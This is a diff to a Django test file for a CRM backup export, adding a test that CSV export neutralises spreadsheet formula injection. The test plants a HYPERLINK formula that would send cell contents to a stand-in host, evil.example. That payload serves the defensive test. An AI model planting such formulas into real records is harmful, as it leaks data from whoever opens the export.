@@ -6,6 +6,7 @@ import io
 import json
 import tracemalloc
 import zipfile
+from decimal import Decimal
 
 import pytest
 from django.urls import reverse
@@ -14,8 +15,9 @@ from backups import services
 from backups.export import FILE_NAMES, export_check, export_file_name, export_stream
 from backups.snapshot_format import TABLES_BY_NAME, SnapshotInvalid
 from backups.tests.factories import account_fill, live_rows
+from core.csv import FORMULA_STARTS
 from crm.models import Contact
-from crm.tests.factories import CompanyFactory
+from crm.tests.factories import CompanyFactory, DealFactory
 from history.models import Event, EventType
 
 pytestmark = pytest.mark.django_db(transaction=True)
@@ -40,6 +42,8 @@ def _parsed(archive: zipfile.ZipFile, table_name: str) -> tuple[list[str], list[
                 converted.append(None)
             elif field.get_internal_type() == "BooleanField":
                 converted.append({"true": True, "false": False}[text_value])
+            elif text_value[:1] == "'" and text_value[1:2] in FORMULA_STARTS:
+                converted.append(text_value[1:])  # the apostrophe that keeps a formula text
             else:
                 converted.append(field.to_python(text_value))
         values.append(tuple(converted))
@@ -80,6 +84,23 @@ def test_cells_are_spreadsheet_friendly(account, admin_user):
     activities = archive.read("activities.csv").decode("utf-8-sig")
     assert "2030-01-02T03:04:05.678901+00:00" in activities
     assert ",true," in activities or ",false," in activities
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_text_that_a_spreadsheet_would_run_is_kept_as_text(account, admin_user, start):
+    """Issue 15, item 2: an employee plants a formula in a title; the admin opens the export."""
+    planted = f'{start}HYPERLINK("https://evil.example/?"&A1,"Click")'
+    CompanyFactory(account=account, title=planted, comments=f"{start}1+2")
+    DealFactory(account=account, title="Refund", amount=Decimal("-5.00"))
+    snapshot = services.snapshot_take(account=account, kind="manual")
+
+    archive = _zip(snapshot)
+
+    companies = list(csv.DictReader(io.StringIO(archive.read("companies.csv").decode("utf-8-sig"))))
+    assert [row["title"] for row in companies] == [f"'{planted}"]
+    assert companies[0]["comments"] == f"'{start}1+2"
+    deals = list(csv.DictReader(io.StringIO(archive.read("deals.csv").decode("utf-8-sig"))))
+    assert deals[0]["amount"] == "-5.00"  # a number stays a number
 
 
 def test_a_damaged_file_is_refused_before_anything_is_sent(account, admin_user, snapshot_dir):
